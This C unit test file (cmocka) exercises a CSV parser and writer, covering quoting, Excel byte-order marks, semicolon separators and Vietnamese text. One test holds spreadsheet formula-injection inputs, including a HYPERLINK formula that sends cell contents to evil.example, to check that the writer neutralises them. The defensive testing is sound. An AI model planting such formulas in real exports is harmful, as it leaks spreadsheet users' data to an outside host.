/* Unit tests: RFC 4180 parsing (service/src/domain/csv.c). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "domain/csv.h"

/* Parses `text` and compares it with `expected`, rows separated by '|' and fields by ';'. */
static void expect(const char *text, const char *expected)
{
    size_t bad;
    json_t *rows = csv_parse(text, strlen(text), ',', &bad, NULL);
    assert_non_null(rows);
    char got[512] = "";
    size_t r, f;
    json_t *row, *field;
    json_array_foreach(rows, r, row)
    {
        if (r)
            strcat(got, "|");
        json_array_foreach(row, f, field)
        {
            if (f)
                strcat(got, ";");
            strcat(got, json_string_value(field));
        }
    }
    assert_string_equal(got, expected);
    json_decref(rows);
}

static void plain_rows(void **state)
{
    expect("indicator,unit,period,value,comment\n", "indicator;unit;period;value;comment");
    expect("a,b\nc,d", "a;b|c;d");
    expect("a,b\r\nc,d\r\n", "a;b|c;d");
    expect("a,,c\n", "a;;c");
    expect("a,\n", "a;");
    expect("a,b\n\n\nc,d\n", "a;b|c;d"); /* blank lines are skipped */
    expect("", "");
}

static void excel_csv_reads_too(void **state)
{
    /* the byte-order mark of Excel's "CSV UTF-8" is not data */
    expect("\xEF\xBB\xBF"
           "indicator,unit\n",
           "indicator;unit");
    /* a Vietnamese Windows locale separates by semicolons; the header says which */
    assert_int_equal(csv_separator("a;b;c\n1,5;2\n", 12), ';');
    assert_int_equal(csv_separator("a,b;c\n", 6), ',');
    assert_int_equal(csv_separator("\"a;b;c\",d\n", 10), ',');
    size_t bad;
    const char *text = "a;\"b;c\"\r\n12,5;x\r\n";
    json_t *rows = csv_parse(text, strlen(text), ';', &bad, NULL);
    assert_non_null(rows);
    assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 1), 0)), "12,5");
    assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 1)), "b;c");
    json_decref(rows);
}

static void each_row_knows_the_record_a_spreadsheet_shows(void **state)
{
    size_t bad;
    json_t *records = NULL;
    const char *text = "h\n\"two\nlines\"\n\nc\n";
    json_t *rows = csv_parse(text, strlen(text), ',', &bad, &records);
    assert_non_null(rows);
    assert_int_equal(json_array_size(rows), 3);
    assert_int_equal(json_integer_value(json_array_get(records, 0)), 1);
    assert_int_equal(json_integer_value(json_array_get(records, 1)), 2);
    assert_int_equal(json_integer_value(json_array_get(records, 2)), 4); /* a blank record is 3 */
    json_decref(records);
    json_decref(rows);
}

static void a_neutralised_cell_is_restored(void **state)
{
    assert_string_equal(csv_restored("'=SUM(A1)"), "=SUM(A1)");
    assert_string_equal(csv_restored("'-5"), "-5");
    assert_string_equal(csv_restored("'quoted'"), "'quoted'");
    assert_string_equal(csv_restored("plain"), "plain");
    assert_string_equal(csv_restored("'"), "'");
}

static void an_absent_body_is_no_rows(void **state)
{
    size_t bad;
    json_t *rows = csv_parse(NULL, 0, ',', &bad, NULL); /* a request without a body */
    assert_non_null(rows);
    assert_int_equal(json_array_size(rows), 0);
    json_decref(rows);
}

static void quoted_fields(void **state)
{
    expect("\"a,b\",c\n", "a,b;c");
    expect("\"say \"\"hi\"\"\",x\n", "say \"hi\";x");
    expect("\"two\nlines\",x\n", "two\nlines;x");
    expect("\"\",x\n", ";x");
    expect("Xã Mỹ Hòa Hưng,\"Đã tổ chức, 3 buổi\"\n", "Xã Mỹ Hòa Hưng;Đã tổ chức, 3 buổi");
}

static void malformed_text_is_refused_with_its_line(void **state)
{
    size_t bad;
    assert_null(csv_parse("a,b\nc\"d,e\n", 10, ',', &bad, NULL));
    assert_int_equal(bad, 2);
    assert_null(csv_parse("a,\"unclosed\n", 12, ',', &bad, NULL));
    assert_null(csv_parse("\"a\"b,c\n", 7, ',', &bad, NULL));
    assert_int_equal(bad, 1);
    assert_null(csv_parse("a\rb\n", 4, ',', &bad, NULL));
    assert_null(csv_parse("a\0b\n", 4, ',', &bad, NULL));
    assert_null(csv_parse("a,\xff\n", 4, ',', &bad, NULL));
}

static void writing_quotes_what_needs_it(void **state)
{
    static const char *const columns[] = {"a", "b", "c"};
    json_t *rows = json_loads("[{\"a\": \"x,y\", \"b\": 75.0, \"c\": null},"
                              " {\"a\": \"say \\\"hi\\\"\", \"b\": true, \"c\": \"Hòa\"}]",
                              0, NULL);
    assert_non_null(rows);
    size_t len;
    char *text = csv_write(rows, columns, 3, true, &len);
    assert_non_null(text);
    assert_string_equal(text, "\xEF\xBB\xBF"
                              "a,b,c\r\n\"x,y\",75.0,\r\n\"say \"\"hi\"\"\",true,Hòa\r\n");
    assert_int_equal(len, strlen(text));
    size_t bad;
    json_t *back = csv_parse(text + 3, len - 3, ',', &bad, NULL); /* what it writes, it reads */
    assert_non_null(back);
    assert_string_equal(json_string_value(json_array_get(json_array_get(back, 2), 0)),
                        "say \"hi\"");
    json_decref(back);
    free(text);
    json_decref(rows);
}

/* The text csv_write gives for one row of one column holding `value` (JSON), without the
 * header line. */
static char *one_cell(const char *value_json)
{
    static const char *const columns[] = {"v"};
    char row[512];
    snprintf(row, sizeof row, "[{\"v\": %s}]", value_json);
    json_t *rows = json_loads(row, 0, NULL);
    assert_non_null(rows);
    size_t len;
    char *text = csv_write(rows, columns, 1, false, &len);
    json_decref(rows);
    assert_non_null(text);
    char *cell = strdup(text + strlen("v\r\n"));
    free(text);
    return cell;
}

static void a_text_cell_a_spreadsheet_would_run_is_written_as_text(void **state)
{
    static const struct {
        const char *json, *csv;
    } cases[] = {
        {"\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Xem\\\")\"",
         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xem\"\")\"\r\n"},
        {"\"+1+1\"", "'+1+1\r\n"},
        {"\"-2+3\"", "'-2+3\r\n"},
        {"\"@SUM(A1:A2)\"", "'@SUM(A1:A2)\r\n"},
        {"\"\\tcmd\"", "'\tcmd\r\n"},
        {"\"\\rcmd\"", "\"'\rcmd\"\r\n"},
        {"\"Tuyên truyền = 3 buổi\"", "Tuyên truyền = 3 buổi\r\n"}, /* not at the start */
        {"\"\"", "\r\n"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *cell = one_cell(cases[i].json);
        assert_string_equal(cell, cases[i].csv);
        free(cell);
    }
}

static void numbers_stay_numbers(void **state)
{
    static const struct {
        const char *json, *csv;
    } cases[] = {{"-5", "-5\r\n"},
                 {"-0.5", "-0.5\r\n"},
                 {"75.0", "75.0\r\n"},
                 {"true", "true\r\n"},
                 {"null", "\r\n"}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *cell = one_cell(cases[i].json);
        assert_string_equal(cell, cases[i].csv);
        free(cell);
    }
    assert_true(csv_is_formula_like("=1"));
    assert_false(csv_is_formula_like(""));
    assert_false(csv_is_formula_like("'=1"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_rows),
        cmocka_unit_test(an_absent_body_is_no_rows),
        cmocka_unit_test(excel_csv_reads_too),
        cmocka_unit_test(each_row_knows_the_record_a_spreadsheet_shows),
        cmocka_unit_test(a_neutralised_cell_is_restored),
        cmocka_unit_test(quoted_fields),
        cmocka_unit_test(malformed_text_is_refused_with_its_line),
        cmocka_unit_test(writing_quotes_what_needs_it),
        cmocka_unit_test(a_text_cell_a_spreadsheet_would_run_is_written_as_text),
        cmocka_unit_test(numbers_stay_numbers),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
